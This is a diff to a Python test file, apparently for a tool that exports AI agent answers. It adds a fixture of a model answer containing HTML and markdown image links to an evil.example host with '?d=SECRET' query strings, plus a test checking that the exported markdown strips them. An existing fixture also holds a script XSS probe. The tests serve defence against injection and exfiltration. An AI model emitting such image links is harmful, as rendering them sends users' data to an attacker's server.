@@ -27,6 +27,10 @@ ANSWER = (
     '<p>Merged <a class="evidence" data-provider="github" href="https://github.example/1">Fix</a>'
     '<img src="https://evil.example/x.png"><script>alert(1)</script></p>'
 )
+# What the model wrote, as it is kept.
+TEXT = """Merged. <img src="https://evil.example/a.png?d=SECRET"> ![x][b] ![y](https://evil.example/c.png)
+
+[b]: https://evil.example/p?d=SECRET"""
 EVENTS: tuple[RunEvent, ...] = (
     RunStarted(question=QUESTION, model="m", is_simulated=True),
     RunWindow(start="", end="", time_zone="UTC", text="Since Fri 20 Nov 09:12"),
@@ -66,7 +70,7 @@ def answered(user: User) -> RunTicket:
     frames = [(found.run, seq, encode(event, run=found.run, seq=seq)) for seq, event in enumerate(EVENTS, start=1)]
     append_events(frames)
     last = (len(frames) + 1, encode(END, run=found.run, seq=len(frames) + 1))
-    store.end_run(found.run, status=RunStatus.FINISHED, last=last, answer="Merged.", turns=[])
+    store.end_run(found.run, status=RunStatus.FINISHED, last=last, answer=TEXT, turns=[])
     return found
 
 
@@ -120,6 +124,14 @@ def test_a_file_needs_and_asks_for_nothing_else(owner: Client, ticket: RunTicket
     digest = base64.b64encode(hashlib.sha256(style.encode()).digest()).decode()
     policies = [attrs["content"] for attrs in page.named("meta") if attrs.get("http-equiv")]
     assert policies == [f"default-src 'none'; style-src 'sha256-{digest}'; base-uri 'none'; form-action 'none'"]
+
+
+def test_a_markdown_file_asks_for_nothing_else(owner: Client, ticket: RunTicket) -> None:
+    text = owner.get(addresses(ticket)[2]).content.decode()
+    assert "Merged." in text
+    assert "evil" not in text
+    assert "SECRET" not in text
+    assert "<img" not in text.replace("\\<", "")
 
 
 def test_a_file_says_that_what_it_shows_is_from_a_sandbox(owner: Client, ticket: RunTicket) -> None:
